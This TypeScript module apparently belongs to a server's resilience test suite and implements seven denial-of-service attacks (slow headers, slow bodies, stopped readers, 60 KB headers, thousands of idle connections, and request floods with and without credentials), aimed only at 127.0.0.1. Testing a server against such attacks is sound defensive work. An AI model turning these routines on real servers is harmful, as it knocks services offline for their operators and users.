import { connect, type Socket } from 'node:net'
import { request } from '../load/request.ts'

export interface Victim {
  readonly port: number
  /** The credentials of a member who floods. */
  readonly authorization: string
}

export const attackNames = [
  'slow headers',
  'slow bodies',
  'stopped readers',
  'large headers',
  'idle connections',
  'a flood without a key',
  'a flood with a key',
] as const

export type AttackName = (typeof attackNames)[number]

/** The number of connections of each attack at full size. */
const sizes: Readonly<Record<AttackName, number>> = {
  'slow headers': 500,
  'slow bodies': 300,
  'stopped readers': 200,
  'large headers': 500,
  'idle connections': 5000,
  'a flood without a key': 32,
  'a flood with a key': 32,
}

const large = 'x'.repeat(60_000)

/** Attacks go to this machine only. */
const target = '127.0.0.1'

interface Attacker {
  readonly socket: Socket
  /** Called each second. */
  readonly again?: () => void
}

/** Attacks until it is stopped. A closed connection is reopened within a second. */
export function attack(name: AttackName, victim: Victim, share = 1): () => void {
  const open = new Set<Attacker>()
  const count = Math.ceil(sizes[name] * share)
  const fill = () => {
    for (const attacker of open) {
      if (attacker.socket.destroyed) open.delete(attacker)
      else attacker.again?.()
    }
    while (open.size < count) open.add(attackers[name](victim))
  }
  fill()
  const timer = setInterval(fill, 1000)
  return () => {
    clearInterval(timer)
    for (const { socket } of open) socket.destroy()
  }
}

const attackers: Readonly<Record<AttackName, (victim: Victim) => Attacker>> = {
  'slow headers': (victim) => {
    const socket = reach(victim)
    socket.write('GET /api/v1/server_settings HTTP/1.1\r\nHost: localhost\r\n')
    return { socket, again: () => socket.write('X: y\r\n') }
  },
  'slow bodies': (victim) => {
    const socket = reach(victim)
    const head = request('POST /messages', victim).replace(
      /Content-Length: \d+/,
      'Content-Length: 500000',
    )
    socket.write(head)
    return { socket, again: () => socket.write('x') }
  },
  'stopped readers': (victim) => {
    const socket = reach(victim)
    socket.pause()
    socket.write(request('GET /openapi.json', {}).repeat(20))
    return { socket }
  },
  // The first requests are refused after a while, which leaves the others waiting.
  'large headers': (victim) => {
    const socket = reach(victim)
    const head = request('GET /server_settings', {}).replace('\r\n', `\r\nX: ${large}\r\n`)
    socket.write(head.repeat(33))
    return { socket, again: () => socket.write(head) }
  },
  'idle connections': (victim) => ({ socket: reach(victim) }),
  'a flood without a key': (victim) =>
    flood(victim, request('GET /users/me', { authorization: 'Basic eDp4' })),
  'a flood with a key': (victim) =>
    flood(
      victim,
      request('GET /messages', victim, { anchor: 'newest', num_before: 100, num_after: 0 }),
    ),
}

function reach({ port }: Victim): Socket {
  const socket = connect({ port, host: target })
  socket.on('error', () => socket.destroy())
  socket.on('data', () => undefined)
  return socket
}

/** Sends the next request as soon as an answer arrives. */
function flood(victim: Victim, text: string): Attacker {
  const socket = reach(victim)
  const bytes = Buffer.from(text)
  let missing = 0
  socket.on('data', (chunk) => {
    missing = missing > 0 ? missing - chunk.length : missingAfter(chunk)
    if (missing <= 0) socket.write(bytes)
  })
  socket.write(bytes)
  return { socket }
}

/** The number of bytes missing after the first chunk of an answer. */
function missingAfter(chunk: Buffer): number {
  const end = chunk.indexOf('\r\n\r\n')
  const length = /\r\ncontent-length: (\d+)/i.exec(chunk.toString('latin1', 0, end))?.[1]
  return Number(length ?? 0) - (chunk.length - end - 4)
}
